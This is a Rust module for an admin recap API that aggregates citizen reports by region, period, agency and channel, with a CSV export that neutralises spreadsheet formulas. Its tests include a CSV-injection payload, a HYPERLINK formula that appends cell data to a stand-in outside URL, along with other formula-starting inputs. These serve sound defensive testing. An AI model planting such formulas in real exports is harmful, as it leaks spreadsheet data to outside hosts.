//! Recaps (`GET /api/v1/admin/recap`): the figures a regency or province is
//! judged by, for a date range and a region, and the same figures for the
//! period before it. Aggregates only: no field of a recap names a person.

use crate::api::ReportKind;
use crate::calendar::days_in_month;
use crate::intake::Channel;
use crate::{Calendar, Date, Status};
use serde::{Deserialize, Serialize};

/// The query: reports received from `from` to `to` (inclusive, local
/// dates), in a province or a regency (none: everywhere).
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::IntoParams, utoipa::ToSchema))]
#[cfg_attr(feature = "openapi", into_params(parameter_in = Query))]
pub struct RecapQuery {
    /// YYYY-MM-DD; default the first day of `to`'s month. Not after `to`,
    /// at most 5 × 366 days before it.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "openapi", param(pattern = r"^(?:[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*(?:[0-9]{4}-(?:(?:0[1-9]|1[0-2])-(?:0[1-9]|1[0-9]|2[0-8])|(?:0[13-9]|1[0-2])-(?:29|30)|(?:0[13578]|1[02])-31)|(?:[0-9]{2}(?:0[48]|[2468][048]|[13579][26])|(?:[02468][048]|[13579][26])00)-02-29)[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*)?$"))]
    pub from: Option<String>,
    /// YYYY-MM-DD; default today.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "openapi", param(pattern = r"^(?:[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*(?:[0-9]{4}-(?:(?:0[1-9]|1[0-2])-(?:0[1-9]|1[0-9]|2[0-8])|(?:0[13-9]|1[0-2])-(?:29|30)|(?:0[13578]|1[02])-31)|(?:[0-9]{2}(?:0[48]|[2468][048]|[13579][26])|(?:[02468][048]|[13579][26])00)-02-29)[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*)?$"))]
    pub to: Option<String>,
    /// A known province code (`61`), within the officer's jurisdiction.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "openapi", param(pattern = r"^[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*(?:[0-9]{2}(?:\.[0-9]{2}(?:\.[0-9]{2}(?:\.[0-9]{4})?)?)?)?[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*$"))]
    pub province: Option<String>,
    /// A known regency code (`61.09`), within the officer's jurisdiction;
    /// wins over `province`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    #[cfg_attr(feature = "openapi", param(pattern = r"^[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*(?:[0-9]{2}(?:\.[0-9]{2}(?:\.[0-9]{2}(?:\.[0-9]{4})?)?)?)?[\t-\r \u0085\u00a0\u1680\u2000-\u200a\u2028\u2029\u202f\u205f\u3000]*$"))]
    pub regency: Option<String>,
}

impl RecapQuery {
    /// The query's parameters, for an address (empty ones left out).
    pub fn to_pairs(&self) -> Vec<(&'static str, String)> {
        [("from", &self.from), ("to", &self.to), ("province", &self.province), ("regency", &self.regency)]
            .into_iter()
            .filter_map(|(k, v)| v.clone().filter(|v| !v.is_empty()).map(|v| (k, v)))
            .collect()
    }
}

/// A count under a name (a category, an agency, a region, a month).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct NamedCount {
    /// The category's, agency's or region's name, or the month (`2026-11`);
    /// "" for reports without one (no category yet).
    pub name: String,
    pub count: i64,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct StatusTally {
    pub status: Status,
    pub count: i64,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct KindTally {
    pub kind: ReportKind,
    pub count: i64,
}

/// How many of the period's reports came by a channel (`web`: the
/// citizen's own form; the others entered by a coordinator).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct ChannelTally {
    pub channel: Channel,
    pub count: i64,
}

/// One agency's handling of the reports forwarded to it.
#[derive(Clone, Debug, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct AgencyRecap {
    pub agency_id: i64,
    pub name: String,
    /// Reports of the period forwarded to it (and still with it).
    pub received: i64,
    /// Of those, followed up at least once.
    pub followed_up: i64,
    /// Of those, finished (`closed`).
    pub finished: i64,
    /// Followed up by its deadline, of those followed up or past their
    /// deadline (`None` when there are none yet).
    pub on_time_share: Option<f64>,
    /// Median working days from forwarding to the first follow-up.
    pub median_days_to_followup: Option<f64>,
    /// Waiting for its follow-up past the deadline, today.
    pub late_now: i64,
    /// Mean of the reporters' ratings (1–5), and how many rated.
    pub mean_rating: Option<f64>,
    pub ratings: i64,
}

/// The region's own figures.
#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct RegionFigures {
    /// Median working days from receipt to the coordinator's first decision
    /// (forwarded, archived or asked for more).
    pub median_days_to_verify: Option<f64>,
    /// Followed up, of those forwarded to an agency.
    pub share_followed_up: Option<f64>,
    /// Finished, of those not archived.
    pub share_finished: Option<f64>,
    /// Agencies of the region with an officer active (a sign-in or an
    /// action) in the 30 days up to today, of those with an account.
    pub agencies_active: i64,
    pub agencies_connected: i64,
}

/// The headline counts of a period, for the comparison with the previous one.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct PeriodTotals {
    pub from: String,
    pub to: String,
    pub received: i64,
    pub followed_up: i64,
    pub finished: i64,
    pub late_now: i64,
}

#[derive(Clone, Debug, Default, PartialEq, Serialize, Deserialize)]
#[cfg_attr(feature = "openapi", derive(utoipa::ToSchema))]
pub struct Recap {
    pub period: PeriodTotals,
    /// The period of the same length just before (whole months when the
    /// period starts on the 1st).
    pub previous: PeriodTotals,
    /// The region's name ("" for all of Indonesia).
    pub region: String,
    pub by_status: Vec<StatusTally>,
    pub by_kind: Vec<KindTally>,
    /// Every channel (`Channel::ALL` order, zeros included). A report entered
    /// from a letter counts in the period it was entered in, like the others.
    #[serde(default)]
    pub by_channel: Vec<ChannelTally>,
    pub by_category: Vec<NamedCount>,
    pub by_agency: Vec<NamedCount>,
    pub by_region: Vec<NamedCount>,
    /// Month by month, the period's and the previous period's.
    pub by_month: Vec<NamedCount>,
    pub previous_by_month: Vec<NamedCount>,
    /// Forwarded to an agency and not yet followed up by it (`dispatched`), by category.
    pub not_followed_up: Vec<NamedCount>,
    /// Every status but `closed` and `archived`, by category.
    pub open_by_category: Vec<NamedCount>,
    /// Ranked: by the share followed up on time, then fewest late, then most received.
    pub agencies: Vec<AgencyRecap>,
    pub figures: RegionFigures,
}

/// The range asked for: defaults, order, and at most five years.
pub fn period(q: &RecapQuery, today: Date) -> Result<(Date, Date), &'static str> {
    let to = match q.to.as_deref().filter(|s| !s.is_empty()) {
        Some(s) => Date::parse(s).ok_or("to")?,
        None => today,
    };
    let from = match q.from.as_deref().filter(|s| !s.is_empty()) {
        Some(s) => Date::parse(s).ok_or("from")?,
        None => Date::new(to.year, to.month, 1).ok_or("from")?,
    };
    if from > to || to.to_days() - from.to_days() > 5 * 366 {
        return Err("from");
    }
    Ok((from, to))
}

/// The period before `from..=to`: as many whole months back when it starts
/// on the 1st (1–3 Dec → 1–3 Nov; a year → the year before), else as many
/// days just before.
pub fn previous_period(from: Date, to: Date) -> (Date, Date) {
    if from.day == 1 {
        let months = (to.year - from.year) * 12 + to.month as i32 - from.month as i32 + 1;
        let back = |d: Date, day: u32| {
            let m = d.year * 12 + d.month as i32 - 1 - months;
            let (y, mo) = (m.div_euclid(12), m.rem_euclid(12) as u32 + 1);
            Date::new(y, mo, day.min(days_in_month(y, mo))).expect("a day of the month")
        };
        // The last day of a month stays the last day of its month.
        let end = if to.day == days_in_month(to.year, to.month) { 31 } else { to.day };
        return (back(from, 1), back(to, end));
    }
    let len = to.to_days() - from.to_days() + 1;
    (from.add_days(-len), from.add_days(-1))
}

/// The months `from..=to` touches, as `YYYY-MM`.
pub fn months(from: Date, to: Date) -> Vec<String> {
    let mut out = Vec::new();
    let (mut y, mut m) = (from.year, from.month);
    while (y, m) <= (to.year, to.month) {
        out.push(format!("{y:04}-{m:02}"));
        (y, m) = if m == 12 { (y + 1, 1) } else { (y, m + 1) };
    }
    out
}

/// The median of working days between pairs of dates, each pair with how
/// many reports have it (what the database groups): `None` when empty.
pub fn median_working_days(cal: &Calendar, pairs: &[(Date, Date, i64)]) -> Option<f64> {
    let mut days: Vec<(i64, i64)> = pairs.iter().map(|&(a, b, n)| (cal.working_days_between(a, b), n)).collect();
    days.sort_unstable();
    median_of(&days)
}

/// The median of a histogram of (value, count), sorted by value.
pub fn median_of(sorted: &[(i64, i64)]) -> Option<f64> {
    let total: i64 = sorted.iter().map(|&(_, n)| n.max(0)).sum();
    if total == 0 {
        return None;
    }
    // The values at positions (total-1)/2 and total/2 (0-based).
    let at = |pos: i64| {
        let mut seen = 0;
        sorted.iter().find(|&&(_, n)| {
            seen += n.max(0);
            seen > pos
        })
    };
    let lo = at((total - 1) / 2)?.0;
    let hi = at(total / 2)?.0;
    Some((lo + hi) as f64 / 2.0)
}

/// Every channel's count in `Channel::ALL` order, from the counts of the
/// channels other than `web` (what the database counts: few rows, read from
/// their own index) and the period's total: `web` is the rest.
pub fn by_channel(received: i64, others: &[(Channel, i64)]) -> Vec<ChannelTally> {
    let count = |c: Channel| others.iter().filter(|(x, _)| *x == c).map(|(_, n)| n).sum::<i64>();
    let entered: i64 = Channel::OTHER.into_iter().map(count).sum();
    Channel::ALL
        .into_iter()
        .map(|c| ChannelTally { channel: c, count: if c == Channel::Web { (received - entered).max(0) } else { count(c) } })
        .collect()
}

/// `part / whole`, `None` when `whole` is 0.
pub fn share(part: i64, whole: i64) -> Option<f64> {
    (whole > 0).then(|| part as f64 / whole as f64)
}

/// A table as CSV for spreadsheet programs: UTF-8 with a byte-order mark,
/// CRLF line ends, fields quoted where needed, and no cell a spreadsheet
/// would run as a formula (`inert`).
pub fn csv(header: &[&str], rows: &[Vec<String>]) -> String {
    let field = |s: &str| {
        let s = inert(s);
        if s.contains([',', '"', '\n', '\r', ';']) {
            format!("\"{}\"", s.replace('"', "\"\""))
        } else {
            s.into_owned()
        }
    };
    let mut out = String::from("\u{feff}");
    let line = |cells: Vec<String>| cells.join(",") + "\r\n";
    out.push_str(&line(header.iter().map(|h| field(h)).collect()));
    for r in rows {
        out.push_str(&line(r.iter().map(|c| field(c)).collect()));
    }
    out
}

/// A cell as a spreadsheet shows it, never runs it (OWASP's rule for CSV
/// injection): a cell that begins with `=`, `+`, `-`, `@`, a tab or a
/// carriage return gets a leading `'`, so `=HYPERLINK(…)` in an agency's
/// or category's name (which a regional coordinator or a superadmin
/// chooses) stays text in the national coordinator's spreadsheet. A number
/// stays a number: `-3`, `+2`, `4.5`, `12,5` and `45%` are left alone.
pub fn inert(cell: &str) -> std::borrow::Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if risky && !is_number(cell) {
        format!("'{cell}").into()
    } else {
        cell.into()
    }
}

/// A signed decimal number, with `.` or `,` before its fraction and an
/// optional `%`: what spreadsheets read as a number, not a formula.
fn is_number(cell: &str) -> bool {
    let unsigned = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    let digits = unsigned.strip_suffix('%').unwrap_or(unsigned);
    let (whole, fraction) = digits.split_once(['.', ',']).unwrap_or((digits, "0"));
    let all_digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    all_digits(whole) && all_digits(fraction)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(s: &str) -> Date {
        Date::parse(s).unwrap()
    }

    #[test]
    fn medians_of_histograms() {
        assert_eq!(median_of(&[]), None);
        assert_eq!(median_of(&[(3, 1)]), Some(3.0));
        assert_eq!(median_of(&[(1, 1), (5, 1)]), Some(3.0));
        assert_eq!(median_of(&[(0, 2), (4, 1)]), Some(0.0));
        assert_eq!(median_of(&[(0, 1), (2, 2), (9, 1)]), Some(2.0));
    }

    #[test]
    fn medians_count_working_days_across_holidays() {
        // 24 and 25 Dec 2026 are holidays; 26/27 a weekend.
        let cal = Calendar::new([d("2026-12-24"), d("2026-12-25")]);
        let pairs = [(d("2026-12-23"), d("2026-12-28"), 1), (d("2026-12-21"), d("2026-12-22"), 1), (d("2026-12-23"), d("2026-12-30"), 1)];
        // 1, 1 and 3 working days.
        assert_eq!(median_working_days(&cal, &pairs), Some(1.0));
    }

    #[test]
    fn previous_periods() {
        assert_eq!(previous_period(d("2026-12-01"), d("2026-12-03")), (d("2026-11-01"), d("2026-11-03")));
        assert_eq!(previous_period(d("2026-11-01"), d("2026-11-30")), (d("2026-10-01"), d("2026-10-31")));
        assert_eq!(previous_period(d("2026-03-01"), d("2026-03-31")), (d("2026-02-01"), d("2026-02-28")));
        assert_eq!(previous_period(d("2026-01-01"), d("2026-12-31")), (d("2025-01-01"), d("2025-12-31")));
        assert_eq!(previous_period(d("2026-12-10"), d("2026-12-19")), (d("2026-11-30"), d("2026-12-09")));
    }

    #[test]
    fn periods_default_and_refuse_nonsense() {
        let today = d("2026-12-03");
        assert_eq!(period(&RecapQuery::default(), today), Ok((d("2026-12-01"), today)));
        let q = |f: &str, t: &str| RecapQuery { from: Some(f.into()), to: Some(t.into()), ..Default::default() };
        assert_eq!(period(&q("2026-01-01", "2026-06-30"), today), Ok((d("2026-01-01"), d("2026-06-30"))));
        assert_eq!(period(&q("2026-07-01", "2026-06-30"), today), Err("from"));
        assert_eq!(period(&q("2026-13-01", "2026-06-30"), today), Err("from"));
        assert_eq!(months(d("2025-11-20"), d("2026-02-01")), ["2025-11", "2025-12", "2026-01", "2026-02"]);
    }

    #[test]
    fn web_is_what_the_other_channels_leave() {
        let t = by_channel(10, &[(Channel::Surat, 2), (Channel::Email, 1)]);
        assert_eq!(t.iter().map(|c| c.channel).collect::<Vec<_>>(), Channel::ALL);
        let n = |c: Channel| t.iter().find(|x| x.channel == c).unwrap().count;
        assert_eq!((n(Channel::Web), n(Channel::Surat), n(Channel::Email), n(Channel::Sms)), (7, 2, 1, 0));
        assert_eq!(by_channel(0, &[]).iter().map(|c| c.count).sum::<i64>(), 0);
        // Answers from before the field existed read as none.
        let old: Recap = serde_json::from_str(&serde_json::to_string(&Recap::default()).unwrap().replace(",\"by_channel\":[]", "")).unwrap();
        assert!(old.by_channel.is_empty());
    }

    #[test]
    fn csv_has_a_bom_and_quotes() {
        let s = csv(&["Kategori", "Jumlah"], &[vec!["Air, minum".into(), "3".into()], vec!["Kata \"x\"".into(), "1".into()]]);
        assert_eq!(s, "\u{feff}Kategori,Jumlah\r\n\"Air, minum\",3\r\n\"Kata \"\"x\"\"\",1\r\n");
    }

    #[test]
    fn csv_cells_never_run_as_formulas_and_numbers_stay_numbers() {
        let name = "=HYPERLINK(\"http://contoh.example/?\"&A2,\"Buka\")";
        let s = csv(&["Instansi", "Laporan"], &[vec![name.into(), "-3".into()], vec!["@SUM(A1)".into(), "+2".into()]]);
        assert_eq!(
            s,
            "\u{feff}Instansi,Laporan\r\n\"'=HYPERLINK(\"\"http://contoh.example/?\"\"&A2,\"\"Buka\"\")\",-3\r\n'@SUM(A1),+2\r\n"
        );
        for risky in ["=1+1", "+cmd", "-2+3", "@x", "\tx", "\r=1", "-", "+", "=", "-1e3", "-1.", "--1"] {
            assert_eq!(inert(risky), format!("'{risky}"), "{risky:?}");
        }
        for safe in ["-3", "+2", "4.5", "-12,5", "45%", "-0.5%", "0", "Dinas – PUPR", "1. =HYPERLINK(x)", "'=x", "–"] {
            assert_eq!(inert(safe), safe, "{safe:?}");
        }
    }
}
